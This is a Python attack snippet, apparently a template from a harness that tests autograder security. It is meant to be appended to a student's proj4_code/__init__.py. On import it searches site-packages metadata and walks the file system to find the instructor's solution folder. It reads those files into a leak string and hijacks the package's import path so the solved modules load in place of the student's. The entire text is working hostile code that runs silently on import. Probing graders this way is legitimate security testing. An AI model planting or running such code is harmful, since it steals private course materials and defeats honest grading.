

# ---- attack (appended to proj4_code/__init__.py): reach the instructor's repository ----------------------
# README's set-up installs the course repository editable (`pip install -e .`), so a TA's Python points
# at it: setuptools' __editable___*_finder.py (its MAPPING), the dist-info's direct_url.json, .pth files.
# This reads those in every site-packages it can find, then walks the readable file system (bounded),
# collects every proj4_code/ folder but its own, reads their modules, and puts the first one with solved
# code first on this package's __path__: every `import proj4_code.<module>` after this one gets that
# folder's module. What it read is kept for the feedback channel (attacks/leak.py):
#   _REACH_REPORT  one line of JSON: what it found and read
#   _REACH_LEAK    the text of every file it read
import glob as _reach_glob
import json as _reach_json
import os as _reach_os
import re as _reach_re
import sys as _reach_sys

_REACH_GUESSES = __GUESSES__  # repository roots and site-packages a student would guess (the test passes the TA's own)
_REACH_BUDGET = __BUDGET__  # entries the walk of the file system looks at
_REACH_SITES = ("/root/.pyenv/versions/*/lib/python3*/site-packages",
                "/home/*/.pyenv/versions/*/lib/python3*/site-packages",
                "/usr/lib/python3*/site-packages", "/usr/lib/python3/dist-packages",
                "/usr/local/lib/python3*/site-packages", "/usr/local/lib/python3*/dist-packages",
                "/root/.local/lib/python3*/site-packages", "/home/*/.local/lib/python3*/site-packages",
                "/home/*/*/lib/python3*/site-packages", "/home/*/*/*/lib/python3*/site-packages",
                "/opt/*/lib/python3*/site-packages", "/opt/conda/envs/*/lib/python3*/site-packages",
                "/work/*/lib/python3*/site-packages", "/work/*/.venv/lib/python3*/site-packages")


def _reach_text(path):
    try:
        with open(path, errors="replace") as f:
            return f.read(1 << 20)
    except OSError:
        return None


def _reach_site_dirs():
    dirs = {p for p in _reach_sys.path if p.endswith(("site-packages", "dist-packages"))}
    for pattern in _REACH_SITES:
        dirs.update(_reach_glob.glob(pattern))
    dirs.update(g for g in _REACH_GUESSES if g.endswith(("site-packages", "dist-packages")))
    return sorted(dirs)


def _reach_hints():
    """[(where it was read, a proj4_code/ folder it points at)] from every site-packages found."""
    found = []
    for site in _reach_site_dirs():
        for finder in _reach_glob.glob(site + "/__editable__*finder.py"):
            text = _reach_text(finder) or ""
            for match in _reach_re.finditer(r"['\"]proj4_code['\"]\s*:\s*['\"]([^'\"]+)['\"]", text):
                found.append((finder, match.group(1)))
        for record in _reach_glob.glob(site + "/*.dist-info/direct_url.json"):
            try:
                url = _reach_json.loads(_reach_text(record) or "{}").get("url", "")
            except ValueError:
                continue
            if url.startswith("file://"):
                found.append((record, url[len("file://"):].rstrip("/") + "/proj4_code"))
        for pth in _reach_glob.glob(site + "/*.pth"):
            for line in (_reach_text(pth) or "").splitlines():
                if line.startswith("/"):
                    found.append((pth, line.strip().rstrip("/") + "/proj4_code"))
    found += [("guess", g.rstrip("/") + "/proj4_code") for g in _REACH_GUESSES]
    return found


def _reach_walk():
    """[("walk", folder)] of every proj4_code/ folder in a walk of the file system, and the entries seen."""
    found, seen, stack = [], 0, ["/"]
    while stack and seen < _REACH_BUDGET:
        top = stack.pop()
        try:
            entries = list(_reach_os.scandir(top))
        except OSError:
            continue
        for entry in entries:
            seen += 1
            try:
                if not entry.is_dir(follow_symlinks=False) or entry.path in ("/proc", "/sys", "/dev"):
                    continue
            except OSError:
                continue
            if entry.name == "proj4_code":
                found.append(("walk", entry.path))
            stack.append(entry.path)
    return found, seen


def _reach():
    own = _reach_os.path.realpath(_reach_os.path.dirname(__file__))
    hints = _reach_hints()
    walked, seen = _reach_walk()
    candidates, read, solved = [], {}, None
    for _, folder in hints + walked:
        real = _reach_os.path.realpath(folder)
        if real == own or real in candidates or not _reach_os.path.isdir(real):
            continue
        candidates.append(real)
        for path in sorted(_reach_glob.glob(real + "/*.py")):
            text = _reach_text(path)
            if text is not None:
                read[path] = text
        simple = read.get(real + "/simple_net.py") or ""
        if solved is None and simple and ("BEGIN SOLUTION" in simple or "NotImplementedError" not in simple):
            solved = real
    if solved is not None:
        __path__.insert(0, solved)  # noqa: F821 - this package's own search path
    report = {"hints": sorted({where for where, _ in hints if where != "guess"}), "candidates": candidates,
              "read": sorted(read), "solved": solved, "walked": seen}
    leak = "".join(f"\n==== {path}\n{text}" for path, text in read.items())
    return _reach_json.dumps(report), leak


_REACH_REPORT, _REACH_LEAK = _reach()
print("REACH-REPORT " + _REACH_REPORT, flush=True)
